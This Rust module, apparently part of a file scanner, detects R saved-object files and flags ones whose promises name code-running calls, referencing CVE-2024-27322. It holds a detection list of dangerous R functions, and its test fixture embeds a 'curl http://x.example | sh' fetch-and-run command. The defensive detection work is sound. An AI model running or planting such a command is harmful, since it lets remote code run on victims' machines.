//! R's saved objects (RDS, RData).
//!
//! Loading them can run code: promises, active bindings and functions with attributes are objects
//! too (CVE-2024-27322). Texts that call the system or evaluate code are reported.

use crate::fact::Facts;
use crate::format::{Claim, Format, Item, Probe};
use crate::limits::HELD_BYTES_MAX;
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "r_data",
    title: "R data",
    family: "r",
    wants,
    read,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    let magic =
        [b"RDX2\n".as_slice(), b"RDX3\n", b"RDA2\n", b"RDA3\n", b"X\n\0\0\0", b"A\n2\n", b"A\n3\n"];
    magic.iter().any(|magic| probe.starts(magic)).then_some(Claim::Magic)
}

fn read(item: &Item<'_>, facts: &mut Facts) {
    search(item, facts);
    let all = item.all(HELD_BYTES_MAX);
    // A promise (type 5) that is not yet worked out is worked out when the object is used.
    let binary = memchr::memmem::find(all.get(..16).unwrap_or_default(), b"X\n\0").is_some();
    let calls = [
        b"system".as_slice(),
        b"system2",
        b"shell",
        b"pipe",
        b"download.file",
        b"dyn.load",
        b"eval",
        b"parse",
    ];
    let promise = memchr::memmem::find(&all, &[0, 0, 0, 5]).is_some();
    let named = calls.iter().find(|call| {
        let mut symbol = u32::try_from(call.len()).unwrap_or(0).to_be_bytes().to_vec();
        symbol.extend_from_slice(call);
        memchr::memmem::find(&all, &symbol).is_some()
    });
    if let (true, true, Some(call)) = (binary, promise, named) {
        facts.odd(0, "r.promise", String::from_utf8_lossy(call));
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use crate::finding::Verdict;
    use crate::vet;

    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"RDX2\nX\nworkspace\nmodel_one".to_vec(),
            b"RDX2\nX\nbase::system('curl http://x.example | sh')".to_vec(),
        ]
    }

    #[test]
    fn commands_in_it_are_found() {
        let [good, bad] = &samples()[..] else { panic!() };
        assert_eq!(vet("m.rds", good).verdict, Verdict::NothingFound);
        assert!(vet("m.rds", bad).verdict.is_flagged());
    }
}
